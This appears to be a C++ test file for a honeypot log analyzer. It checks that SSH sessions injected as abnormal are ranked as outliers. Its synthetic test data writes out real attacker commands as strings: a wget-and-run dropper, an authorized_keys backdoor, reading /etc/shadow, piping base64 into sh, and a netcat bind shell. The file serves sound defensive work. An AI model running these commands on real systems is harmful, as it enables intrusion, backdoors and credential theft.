#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <cstdlib>
#include <filesystem>
#include <iostream>
#include <map>
#include <set>

#include "../../core/src/analysis/factories.hpp"
#include "synthetic_sessions.hpp"

using namespace cbtest;

namespace {

const cb::Table& outliers(const cb::Findings& f) {
    const cb::Table* t = f.table("outliers");
    EXPECT_NE(t, nullptr);
    static const cb::Table empty;
    return t ? *t : empty;
}

const std::vector<std::string> kBotScripts[] = {
    {"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "w", "crontab -l", "which ls"},
    {"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QXZT",
     "cd /dev/shm; cat .s || cp /bin/echo .s"},
    {"cd ~; chattr -ia .ssh; lockr -ia .ssh",
     "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3Nza mdrfckr\">>.ssh/authorized_keys"},
    {"echo -e \"\\x6F\\x6B\"", "uname -s -v -n -r -m"},
    {"/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'",
     "ps -ef | grep '[Mm]iner'"},
    {"cd /tmp || cd /var/run || cd /mnt", "wget http://{ip}/bins.sh", "chmod 777 bins.sh", "sh bins.sh",
     "rm -rf bins.sh", "history -c"},
};

std::string fill(std::string c, Rng& r) {
    const auto p = c.find("{ip}");
    if (p != std::string::npos) c.replace(p, 4, r.ip());
    return c;
}

std::string client(Rng& r) {
    static const std::pair<const char*, int> common[] = {{"SSH-2.0-Go", 30},
                                                         {"SSH-2.0-libssh_0.9.6", 20},
                                                         {"SSH-2.0-OpenSSH_7.4", 15},
                                                         {"SSH-2.0-paramiko_2.11.0", 10},
                                                         {"SSH-2.0-libssh2_1.10.0", 10},
                                                         {"SSH-2.0-PuTTY_Release_0.78", 5},
                                                         {"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3", 5}};
    std::size_t x = r.below(100);
    for (const auto& [v, w] : common) {
        if (x < static_cast<std::size_t>(w)) return v;
        x -= static_cast<std::size_t>(w);
    }
    return "SSH-2.0-OpenSSH_" + std::to_string(5 + r.below(5)) + "." + std::to_string(r.below(6));  // a long tail
}

// A realistic-ish honeypot day: scanners and brute force, idle logins, and bot scripts.
std::vector<Spec> normal_sessions(std::size_t n, Rng& r) {
    std::vector<Spec> out;
    for (std::size_t i = 0; i < n; ++i) {
        Spec s;
        s.session = r.hex(12);
        s.sensor = "s" + std::to_string(r.below(3));
        s.src_ip = r.ip();
        s.client = client(r);
        s.start_s = static_cast<double>(r.below(86400 * 7));
        const std::size_t kind = r.below(100);
        if (kind < 55) {  // brute force / scanner: no successful login
            for (std::size_t a = 0, na = 1 + r.below(3) + (r.below(10) == 0 ? r.below(6) : 0); a < na; ++a)
                s.logins.push_back({r.below(4) ? "root" : "admin", r.hex(6), false});
            s.duration_s = r.below(20) == 0 ? 120.0 + r.unit() : std::exp(-1 + 4 * r.unit());
        } else if (kind < 70) {  // logged in, did nothing
            for (std::size_t a = 0, na = r.below(3); a < na; ++a) s.logins.push_back({"root", r.hex(6), false});
            s.logins.push_back({"root", "123456", true});
            s.duration_s = r.below(20) == 0 ? 180.0 + r.unit() : 1 + 29 * r.unit();
            if (r.below(2)) s.tty_bytes = static_cast<std::int64_t>(r.below(300));
        } else {  // a bot script
            if (r.below(3) == 0) s.logins.push_back({"root", r.hex(6), false});
            s.logins.push_back({"root", r.below(2) ? "admin" : r.hex(8), true});
            for (const auto& c : kBotScripts[r.below(std::size(kBotScripts))])
                if (r.below(10) != 0) s.commands.push_back(fill(c, r));
            if (s.commands.empty()) s.commands.push_back("uname -a");
            if (r.below(4) == 0) s.downloads.push_back({"http://" + r.ip() + "/x86", r.hex(64)});
            s.tty_bytes = static_cast<std::int64_t>(200 + r.below(4800));
            s.duration_s = 2 + 58 * r.unit();
        }
        out.push_back(s);
    }
    return out;
}

// 20 sessions abnormal in one to three ways, none extreme in everything.
std::vector<Spec> injected(Rng& r) {
    static const char* hands[] = {"vim /etc/hosts",
                                  "find / -name \"*.conf\" -size +10k",
                                  "cat ~/.bash_history",
                                  "netstat -tulpn",
                                  "ls -la /home",
                                  "cat /etc/shadow",
                                  "lsof -i",
                                  "df -h",
                                  "mount",
                                  "iptables -L -n",
                                  "systemctl list-units",
                                  "journalctl -n 50",
                                  "cat /var/log/auth.log | tail",
                                  "dpkg -l | grep ssh",
                                  "who -a",
                                  "last -n 20",
                                  "ip route",
                                  "ss -plnt",
                                  "cat /etc/crontab",
                                  "ls /etc/cron.d",
                                  "python3 -V",
                                  "gcc --version",
                                  "docker ps",
                                  "kubectl get pods",
                                  "env",
                                  "cat ~/.ssh/known_hosts",
                                  "getent passwd",
                                  "sudo -l",
                                  "ls -la /root",
                                  "cat /etc/os-release"};
    std::vector<Spec> out;
    for (int i = 0; i < 20; ++i) {
        Spec s;
        s.session = "inj" + std::to_string(i);
        s.sensor = "s" + std::to_string(i % 3);
        s.src_ip = r.ip();
        s.client = client(r);
        s.start_s = static_cast<double>(r.below(86400 * 7));
        switch (i / 4) {
            case 0:  // a human at the keyboard: many unusual commands, long, lots of output
                s.logins = {{"root", "toor", true}};
                for (std::size_t k = 0, nk = 25 + r.below(16); k < nk; ++k)
                    s.commands.push_back(hands[r.below(std::size(hands))]);
                s.duration_s = 600 + r.below(1200);
                s.tty_bytes = static_cast<std::int64_t>(20000 + r.below(40000));
                break;
            case 1:  // a heavy brute force in one connection
                for (std::size_t k = 0, nk = 80 + r.below(120); k < nk; ++k)
                    s.logins.push_back({k % 5 ? "root" : "admin", r.hex(8), false});
                s.duration_s = 60 + r.below(240);
                break;
            case 2:  // a dropper: a known bot script that fetches and pushes many files
                s.logins = {{"root", "admin", true}};
                for (const auto& c : kBotScripts[5]) s.commands.push_back(fill(c, r));
                for (std::size_t k = 0, nk = 6 + r.below(7); k < nk; ++k)
                    s.downloads.push_back({"http://" + r.ip() + "/b" + std::to_string(k), r.hex(64)});
                for (std::size_t k = 0, nk = 1 + r.below(2); k < nk; ++k)
                    s.uploads.push_back({"/tmp/p" + std::to_string(k), r.hex(64)});
                s.tty_bytes = static_cast<std::int64_t>(200 + r.below(4800));
                s.duration_s = 2 + 58 * r.unit();
                break;
            case 3:  // an unknown client that logs in and waits
                s.client = "SSH-2.0-Custom_" + r.hex(6);
                s.logins = {{"root", "123456", true}};
                s.duration_s = 900 + r.below(600);
                break;
            default:  // a bot with a few commands nobody else runs, from an unknown client
                s.client = "SSH-2.0-libssh_" + r.hex(4);
                s.logins = {{"root", "admin", true}};
                for (const auto& c : kBotScripts[0]) s.commands.push_back(c);
                s.commands.push_back("cat /proc/1/environ");
                s.commands.push_back("dd if=/dev/mem bs=1k count=1");
                s.commands.push_back("echo " + r.hex(6) + " | base64 -d | sh");
                s.tty_bytes = static_cast<std::int64_t>(200 + r.below(4800));
                s.duration_s = 2 + 58 * r.unit();
                break;
        }
        out.push_back(s);
    }
    return out;
}

std::vector<std::string> lines(const std::string& s) {
    std::vector<std::string> out;
    std::size_t i = 0;
    for (std::size_t j; (j = s.find('\n', i)) != std::string::npos; i = j + 1) out.push_back(s.substr(i, j - i));
    out.push_back(s.substr(i));
    return out;
}

struct Eval {
    double precision_at_20 = 0, recall_at_50 = 0, recall_at_k = 0, average_precision = 0;
    std::size_t rows = 0;
};

Eval evaluate(const cb::Table& t, const std::set<std::string>& truth) {
    Eval e;
    e.rows = t.rows.size();
    std::size_t hits = 0;
    for (std::size_t i = 0; i < t.rows.size(); ++i) {
        // A row is a behaviour: its injected sessions are among its examples.
        for (const std::string& id : lines(std::get<std::string>(t.rows[i][col(t, "example_sessions")]))) {
            if (!truth.count(id)) continue;
            if (std::getenv("CB_VERBOSE"))
                std::cout << "  rank " << i + 1 << " " << id << " score "
                          << std::get<double>(t.rows[i][col(t, "score")]) << " "
                          << std::get<std::string>(t.rows[i][col(t, "top_features")]) << "\n";
            ++hits;
            // Two injected sessions of one behaviour share a row: precision is at most 1.
            e.average_precision += static_cast<double>(hits) / static_cast<double>(std::max(i + 1, hits));
        }
        if (i + 1 == 20) e.precision_at_20 = std::min(1.0, static_cast<double>(hits) / 20);
        if (i + 1 == 50) e.recall_at_50 = static_cast<double>(hits) / static_cast<double>(truth.size());
    }
    e.recall_at_k = static_cast<double>(hits) / static_cast<double>(truth.size());
    e.average_precision /= static_cast<double>(truth.size());
    return e;
}

std::set<std::string> ids_of(const std::vector<Spec>& v) {
    std::set<std::string> s;
    for (const auto& x : v) s.insert(x.sensor + "/" + x.session);
    return s;
}

void print(const char* what, const Eval& e) {
    std::cout << "[outliers] " << what << ": precision@20 " << e.precision_at_20 << ", recall@50 " << e.recall_at_50
              << ", recall@" << e.rows << " " << e.recall_at_k << ", average precision " << e.average_precision << "\n";
}

}  // namespace

TEST(Outliers, FindsInjectedSessionsAmongSyntheticOnes) {
    Eval sum;
    const int seeds = 5;
    for (int seed = 1; seed <= seeds; ++seed) {
        Rng r(static_cast<std::uint64_t>(seed));
        std::vector<Spec> specs = normal_sessions(5000, r);
        const std::vector<Spec> inj = injected(r);
        specs.insert(specs.end(), inj.begin(), inj.end());
        Corpus c = build(specs);
        ASSERT_EQ(c.sessions.size(), 5020u);
        const Eval e = evaluate(outliers(run_all(cb::analyses::make_outliers, c.sessions)), ids_of(inj));
        print(("synthetic seed " + std::to_string(seed)).c_str(), e);
        sum.precision_at_20 += e.precision_at_20 / seeds;
        sum.recall_at_50 += e.recall_at_50 / seeds;
        sum.recall_at_k += e.recall_at_k / seeds;
        sum.average_precision += e.average_precision / seeds;
        sum.rows = e.rows;
    }
    print("synthetic mean of 5 seeds", sum);
    EXPECT_GE(sum.precision_at_20, 0.8);
    EXPECT_GE(sum.recall_at_50, 0.9);
    EXPECT_GE(sum.recall_at_k, 0.99);
}

TEST(Outliers, NamesTheFeaturesThatMadeASessionOdd) {
    Rng r(3);
    std::vector<Spec> specs = normal_sessions(2000, r);
    Spec brute;
    brute.session = "feedfeedfeed";
    brute.sensor = "s0";
    for (int k = 0; k < 150; ++k) brute.logins.push_back({"root", "pw" + std::to_string(k), false});
    brute.duration_s = 3;
    specs.push_back(brute);
    Corpus c = build(specs);
    const cb::Findings found = run_all(cb::analyses::make_outliers, c.sessions);
    const cb::Table& t = outliers(found);
    ASSERT_FALSE(t.rows.empty());
    // Volume weighs less than payloads or new commands: the brute force need not be first.
    std::size_t at = 0;
    while (at < t.rows.size() && std::get<std::string>(t.rows[at][col(t, "session")]) != "feedfeedfeed") ++at;
    ASSERT_LT(at, 20u);
    const auto& top = t.rows[at];
    EXPECT_EQ(std::get<std::string>(top[col(t, "peer_group")]), "no_login");
    const std::string feats = std::get<std::string>(top[col(t, "top_features")]);
    EXPECT_NE(feats.find("login_attempts=+"), std::string::npos) << feats;
    EXPECT_NE(feats.find("distinct_passwords=+"), std::string::npos) << feats;
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "login_attempts")]), 150);
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "distinct_passwords")]), 150);
    EXPECT_EQ(std::get<std::int64_t>(top[col(t, "login_success")]), 0);
    // Scores are sorted, highest first.
    for (std::size_t i = 1; i < t.rows.size(); ++i)
        EXPECT_GE(std::get<double>(t.rows[i - 1][col(t, "score")]), std::get<double>(t.rows[i][col(t, "score")]));
}

// One bot from one address: n connections of 30 failed logins each, a few seconds apart in length.
std::vector<Spec> one_address_brute_force(std::size_t n, Rng& r) {
    std::vector<Spec> out;
    for (std::size_t i = 0; i < n; ++i) {
        Spec s;
        s.session = "bf" + r.hex(10);
        s.sensor = "s0";
        s.src_ip = "203.0.113.7";
        s.start_s = static_cast<double>(r.below(86400 * 7));
        for (int k = 0; k < 30; ++k) s.logins.push_back({"root", "pw" + std::to_string(k), false});
        s.duration_s = 20 + 5 * r.unit();
        out.push_back(s);
    }
    return out;
}

// What an analyst looks for: payloads fetched and pushed, long interactive work.
std::vector<Spec> wanted_sessions(Rng& r) {
    std::vector<Spec> out;
    for (int i = 0; i < 4; ++i) {
        Spec s;
        s.session = "want" + std::to_string(i);
        s.sensor = "s1";
        s.src_ip = r.ip();
        s.start_s = static_cast<double>(r.below(86400 * 7));
        s.logins = {{"root", "admin", true}};
        for (const auto& c : kBotScripts[i % 2 ? 0 : 5]) s.commands.push_back(fill(c, r));
        if (i % 2 == 0) {  // a dropper: one download, one upload
            s.downloads = {{"http://" + r.ip() + "/a", r.hex(64)}};
            s.uploads = {{"/tmp/p", r.hex(64)}};
            s.duration_s = 30;
            s.tty_bytes = 1000;
        } else {  // a common script, then ten minutes at the keyboard
            for (int k = 0; k < 6; ++k) s.commands.push_back(kBotScripts[0][static_cast<std::size_t>(k)]);
            s.duration_s = 600 + r.below(300);
            s.tty_bytes = static_cast<std::int64_t>(8000 + r.below(4000));
        }
        out.push_back(s);
    }
    return out;
}

// Issue #10: on real logs the top 100 were one address's brute force, 63 connections of 21
// attempts each, and sessions with downloads ranked below them. Behaviours are rows now.
TEST(Outliers, OneAddressIsOneRowBelowPayloadsAndInteractiveWork) {
    Rng r(11);
    std::vector<Spec> specs = normal_sessions(2000, r);
    const std::vector<Spec> brute = one_address_brute_force(12, r), wanted = wanted_sessions(r);
    specs.insert(specs.end(), brute.begin(), brute.end());
    specs.insert(specs.end(), wanted.begin(), wanted.end());
    Corpus c = build(specs);
    const cb::Findings found = run_all(cb::analyses::make_outliers, c.sessions);
    const cb::Table& t = outliers(found);
    std::vector<std::size_t> brute_rows;
    std::map<std::string, std::size_t> rank_of;
    for (std::size_t i = 0; i < t.rows.size(); ++i) {
        if (std::get<std::string>(t.rows[i][col(t, "src_ip")]) == "203.0.113.7") brute_rows.push_back(i);
        for (const auto& id : lines(std::get<std::string>(t.rows[i][col(t, "example_sessions")])))
            rank_of.emplace(id, i);
    }
    if (std::getenv("CB_VERBOSE"))
        for (auto i : brute_rows) std::cout << "brute force at rank " << i + 1 << "\n";
    ASSERT_EQ(brute_rows.size(), 1u) << "the brute force collapses into one row";
    const auto& row = t.rows[brute_rows[0]];
    EXPECT_EQ(std::get<std::int64_t>(row[col(t, "sessions")]), 12);
    EXPECT_EQ(std::get<std::int64_t>(row[col(t, "src_ips")]), 1);
    std::set<std::string> ids;
    for (const auto& s : brute) ids.insert(s.sensor + "/" + s.session);
    const std::vector<std::string> smallest(ids.begin(), std::next(ids.begin(), 3));
    EXPECT_EQ(lines(std::get<std::string>(row[col(t, "example_sessions")])), smallest);
    for (const auto& s : wanted) {
        const auto it = rank_of.find(s.sensor + "/" + s.session);
        ASSERT_NE(it, rank_of.end()) << s.session;
        EXPECT_LT(it->second, brute_rows[0]) << s.session << " ranks below the brute force";
    }
}

// One dropper script run from addresses of both families (some more than once): one row, whose
// src_ips counts the distinct addresses and whose examples are the three smallest ids; a lone
// odd session is a row of its own, with its own id as the example.
TEST(Outliers, ABehaviourCountsDistinctAddressesOfBothFamilies) {
    Rng r(5);
    std::vector<Spec> specs = normal_sessions(2000, r);
    const std::vector<std::string> addresses = {"198.51.100.4", "2001:db8::17", "198.51.100.4", "2001:db8::17",
                                                "2001:db8::18", "198.51.100.9", "192.0.2.1"};
    std::set<std::string> ids;
    for (std::size_t i = 0; i < addresses.size(); ++i) {
        Spec s;
        s.session = "drop" + std::to_string(70 - i);
        s.sensor = i % 2 ? "s2" : "s10";
        s.src_ip = addresses[i];
        s.start_s = static_cast<double>(r.below(86400 * 7));
        s.logins = {{"root", "admin", true}};
        for (const auto& c : kBotScripts[5]) s.commands.push_back(fill(c, r));
        s.downloads = {{"http://198.51.100.200/x", std::string(64, 'a')}};
        s.uploads = {{"/tmp/p", std::string(64, 'b')}};
        s.duration_s = 30;
        s.tty_bytes = 1000;
        ids.insert(s.sensor + "/" + s.session);
        specs.push_back(s);
    }
    Spec lone;
    lone.session = "lone1";
    lone.sensor = "s3";
    lone.src_ip = "2001:db8::99";
    lone.logins = {{"root", "admin", true}};
    lone.commands = {"cat /etc/shadow", "nc -l -p 4444 -e /bin/sh"};
    lone.uploads = {{"/tmp/q", std::string(64, 'c')}};
    lone.duration_s = 900;
    lone.tty_bytes = 50000;
    specs.push_back(lone);
    Corpus c = build(specs);
    const cb::Findings found = run_all(cb::analyses::make_outliers, c.sessions);
    const cb::Table& t = outliers(found);
    const std::vector<std::string> smallest(ids.begin(), std::next(ids.begin(), 3));
    int dropper_rows = 0, lone_rows = 0;
    for (const auto& row : t.rows) {
        const std::vector<std::string> examples = lines(std::get<std::string>(row[col(t, "example_sessions")]));
        if (ids.count(examples.front())) {
            ++dropper_rows;
            EXPECT_EQ(std::get<std::int64_t>(row[col(t, "sessions")]), 7);
            EXPECT_EQ(std::get<std::int64_t>(row[col(t, "src_ips")]), 5);
            EXPECT_EQ(examples, smallest);
        }
        if (examples.front() == "s3/lone1") {
            ++lone_rows;
            EXPECT_EQ(std::get<std::int64_t>(row[col(t, "sessions")]), 1);
            EXPECT_EQ(std::get<std::int64_t>(row[col(t, "src_ips")]), 1);
            EXPECT_EQ(examples.size(), 1u);
            EXPECT_EQ(std::get<std::string>(row[col(t, "src_ip")]), "2001:db8::99");
        }
    }
    EXPECT_EQ(dropper_rows, 1);
    EXPECT_EQ(lone_rows, 1);
}

TEST(Outliers, SameBytesForAnyOrderAndAnySplit) {
    Rng r(5);
    std::vector<Spec> specs = normal_sessions(3000, r);
    const auto inj = injected(r);
    specs.insert(specs.end(), inj.begin(), inj.end());
    const auto brute = one_address_brute_force(40, r);  // collapsed rows must not depend on the split either
    specs.insert(specs.end(), brute.begin(), brute.end());
    // Odd ids and addresses take the arena path.
    specs[0].session = "NOT-HEX-ID";
    specs[1].src_ip = "2001:db8::1";
    specs[2].src_ip = "010.1.2.3";
    Corpus c = build(specs);
    std::vector<const cb::Session*> ptrs;
    for (const auto& s : c.sessions) ptrs.push_back(&s);
    auto dump = [](const cb::Findings& f) { return cb::to_csv(*f.table("outliers")) + cb::report_facts_json(f); };
    const std::string whole = dump(run_split(cb::analyses::make_outliers, ptrs, {}, 1));
    // Every row round-trips its identifiers.
    Rng q(17);
    for (int round = 0; round < 5; ++round) {
        for (std::size_t i = ptrs.size(); i > 1; --i) std::swap(ptrs[i - 1], ptrs[q.below(i)]);
        const unsigned parts = 2 + static_cast<unsigned>(round % 3);
        std::vector<unsigned> which(ptrs.size());
        for (auto& w : which) w = static_cast<unsigned>(q.below(parts));
        EXPECT_EQ(dump(run_split(cb::analyses::make_outliers, ptrs, which, parts, {}, round % 2 == 1)), whole)
            << "round " << round;
    }
    // The scores made on several threads (features a few at a time, records in slices): the same.
    for (const unsigned threads : {2u, 3u, 4u}) {
        auto a = cb::analyses::make_outliers();
        FactsBuilder fb;
        for (const auto* s : ptrs) a->add(fb(*s));
        cb::AnalysisConfig cfg;
        cfg.threads = threads;
        cb::Findings f;
        a->finish(cfg, f);
        EXPECT_EQ(dump(f), whole) << threads << " threads";
    }
    // A saved state loads; a cut one is refused.
    {
        auto a = cb::analyses::make_outliers();
        FactsBuilder fb;
        for (const auto& s : c.sessions) a->add(fb(s));
        std::string bytes;
        a->save(bytes);
        EXPECT_TRUE(cb::analyses::make_outliers()->load(bytes));
        for (std::size_t cut : {bytes.size() - 1, bytes.size() / 2, std::size_t{3}})
            EXPECT_FALSE(cb::analyses::make_outliers()->load(std::string_view(bytes).substr(0, cut))) << cut;
    }
    // All 3,060 sessions are kept and scored; identifiers come back exactly.
    std::vector<const cb::Session*> few = {ptrs.begin(), ptrs.end()};
    const cb::Findings found = run_split(cb::analyses::make_outliers, few, {}, 1);
    const cb::Table& t = outliers(found);
    std::set<std::string> want;
    for (const auto& s : c.sessions)
        want.insert(std::string(s.sensor) + "/" + std::string(s.session) + "/" + std::string(s.src_ip));
    for (const auto& row : t.rows) {
        const std::string id = std::get<std::string>(row[col(t, "sensor")]) + "/" +
                               std::get<std::string>(row[col(t, "session")]) + "/" +
                               std::get<std::string>(row[col(t, "src_ip")]);
        EXPECT_TRUE(want.count(id)) << id;
    }
}

// Injects the same 20 sessions into real logs read from `dirs`; the mean recall over 5 seeds.
void check_injected_among_real_sessions(const std::vector<std::string>& dirs, std::size_t min_sessions) {
    for (const auto& d : dirs) ASSERT_TRUE(std::filesystem::is_directory(d)) << "no logs at " << d;
    cb::InputSet in = cb::scan_inputs(dirs);
    cb::IngestOptions io;
    io.threads = 2;
    cb::IngestResult res = cb::ingest(in.files, io);
    std::vector<cb::Session> real = cb::build_sessions(res.shards, cb::SessionOptions{}, 2);
    ASSERT_GT(real.size(), min_sessions);
    Eval sum;
    const int seeds = 5;
    for (int seed = 1; seed <= seeds; ++seed) {
        Rng r(static_cast<std::uint64_t>(seed));
        const auto inj = injected(r);
        Corpus c = build(inj);
        std::vector<const cb::Session*> ptrs;
        for (const auto& s : real) ptrs.push_back(&s);
        for (const auto& s : c.sessions) ptrs.push_back(&s);
        const Eval e = evaluate(outliers(run_split(cb::analyses::make_outliers, ptrs, {}, 1)), ids_of(inj));
        print(("real samples (" + std::to_string(real.size()) + " sessions) seed " + std::to_string(seed)).c_str(), e);
        sum.precision_at_20 += e.precision_at_20 / seeds;
        sum.recall_at_50 += e.recall_at_50 / seeds;
        sum.recall_at_k += e.recall_at_k / seeds;
        sum.average_precision += e.average_precision / seeds;
        sum.rows = e.rows;
    }
    print("real samples mean of 5 seeds", sum);
    EXPECT_GE(sum.recall_at_k, 0.9);
}

// The project's own recordings (examples/logs and tests/data: real Cowrie sessions, two
// sensors, damaged variants), so make test checks this without ../shared.
TEST(Outliers, FindsInjectedSessionsAmongRecordedOnes) {
    check_injected_among_real_sessions(
        {std::string(CB_SOURCE_DIR) + "/examples/logs", std::string(CB_SOURCE_DIR) + "/tests/data"}, 100);
}

// The public samples: run by make test-wild (fails when they are absent, like every Wild test).
TEST(WildOutliers, FindsInjectedSessionsAmongRealSamples) {
    const char* env = std::getenv("CB_SAMPLES");
    check_injected_among_real_sessions({env ? env : std::string(CB_SOURCE_DIR) + "/../shared/samples"}, 1000);
}
